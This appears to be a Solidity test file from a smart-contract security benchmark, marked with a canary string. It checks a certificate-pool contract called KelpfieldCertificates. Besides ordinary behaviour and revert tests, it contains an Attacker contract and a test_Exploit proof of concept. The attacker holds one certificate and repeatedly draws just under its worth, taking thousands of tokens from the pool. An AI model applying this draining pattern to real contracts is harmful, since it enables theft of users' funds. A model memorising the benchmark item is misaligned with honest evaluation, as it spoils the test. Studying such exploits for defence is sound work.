// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./KelpfieldCertificates.sol";

// assay-canary-6dea1423-7816-4594-a8ea-ee6d9ccd5f03

interface Vm {
    function warp(uint256 time) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Coin {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

contract Holder {
    Coin internal coin;
    KelpfieldCertificates internal society;

    constructor(Coin coin_, KelpfieldCertificates society_) {
        coin = coin_;
        society = society_;
        coin.approve(address(society_), type(uint256).max);
    }

    function subscribe(uint256 certificates) public {
        society.subscribe(certificates, type(uint256).max);
    }

    function redeem(uint256 certificates) public {
        society.redeem(certificates);
    }

    function draw(uint256 value) public {
        society.draw(value);
    }

    function pass(address to, uint256 certificates) public {
        society.pass(to, certificates);
    }
}

/// Holds one certificate and draws a little less than it is worth, many times.
contract Attacker is Holder {
    constructor(Coin coin_, KelpfieldCertificates society_) Holder(coin_, society_) {}

    function enter() external {
        subscribe(1);
    }

    function run() external {
        for (uint256 i = 0; i < 60; ++i) {
            draw(society.worth(1) - 1);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    Coin public token;
    KelpfieldCertificates private society;
    Holder private brid;
    Holder private colm;
    Attacker private limpet;

    function setUp() public {
        vm.warp(1_700_000_000);
        token = new Coin();
        society = new KelpfieldCertificates(ICoin(address(token)));
        brid = new Holder(token, society);
        colm = new Holder(token, society);
        limpet = new Attacker(token, society);
        token.mint(address(brid), 6_000e6);
        token.mint(address(colm), 4_000e6);
        token.mint(address(limpet), 150e6);
        token.mint(address(this), 2_000e6);
        token.approve(address(society), 2_000e6);
        brid.subscribe(60);
        colm.subscribe(40);
    }

    function test_Regular() public {
        require(society.money() == 10_000e6 && society.issued() == 100, "subscribed");
        require(!_try(brid, abi.encodeCall(Holder.draw, (100e6))), "resting");
        vm.warp(block.timestamp + 3 days);
        society.harvest(2_000e6);
        require(society.worth(1) == 120e6, "worth a fifth more");

        brid.redeem(10);
        require(token.balanceOf(address(brid)) == 1_200e6, "redeemed");
        colm.draw(600e6);
        require(token.balanceOf(address(colm)) == 600e6 && society.held(address(colm)) == 35, "drawn");
        require(!_try(colm, abi.encodeCall(Holder.draw, (4_200e6 + 1))), "more than they are worth");
        require(!_try(colm, abi.encodeCall(Holder.draw, (1e6))), "least draw");
        require(!_try(colm, abi.encodeCall(Holder.redeem, (36))), "more than he holds");

        colm.pass(address(brid), 5);
        require(society.held(address(brid)) == 55 && society.worth(85) == society.money(), "passed on");
        society.setBoard(address(brid), 100);
        colm.subscribe(1);
        require(token.balanceOf(address(colm)) == 600e6 - 121.2e6, "entrance");
        require(token.balanceOf(address(society)) == society.money(), "books");
    }

    function _try(Holder who, bytes memory data) private returns (bool ok) {
        (ok, ) = address(who).call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The board's business, and certificates that cost too much or rest or are none.
    function test_RefusesHolders() public {
        refuses(address(colm), KelpfieldCertificates.NotBoard.selector);
        society.setBoard(address(colm), 0);
        vm.expectRevert(abi.encodeWithSelector(KelpfieldCertificates.TooDear.selector, 301));
        society.setBoard(address(this), 301);
        refuses(address(colm), KelpfieldCertificates.TooSmall.selector);
        society.subscribe(0, 1);
        refuses(address(limpet), abi.encodeWithSelector(KelpfieldCertificates.TooDear.selector, 100e6));
        society.subscribe(1, 100e6 - 1);
        refuses(address(colm), abi.encodeWithSelector(KelpfieldCertificates.Resting.selector, block.timestamp + 3 days));
        society.pass(address(brid), 1);
        refuses(address(limpet), abi.encodeWithSelector(KelpfieldCertificates.TooFew.selector, 0));
        society.pass(address(brid), 1);
        refuses(address(limpet), abi.encodeWithSelector(KelpfieldCertificates.TooFew.selector, 0));
        society.redeem(1);
    }

    /// A coin that says no is believed.
    function test_RefusesFailedTransfers() public {
        vm.warp(block.timestamp + 3 days);
        token.sleep(true);
        vm.expectRevert(KelpfieldCertificates.CoinFailed.selector);
        society.harvest(1);
        refuses(address(colm), KelpfieldCertificates.CoinFailed.selector);
        society.redeem(1);
    }

    function exploit() public {
        limpet.enter();
        vm.warp(block.timestamp + 3 days);
        limpet.run();
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(limpet));
        exploit();
        require(token.balanceOf(address(limpet)) >= before + 4_000e6, "nothing gained");
        require(society.held(address(limpet)) == 1, "the certificate is used up");
    }

    function target() public view returns (address) {
        return address(society);
    }

    function attacker() public view returns (address) {
        return address(limpet);
    }
}
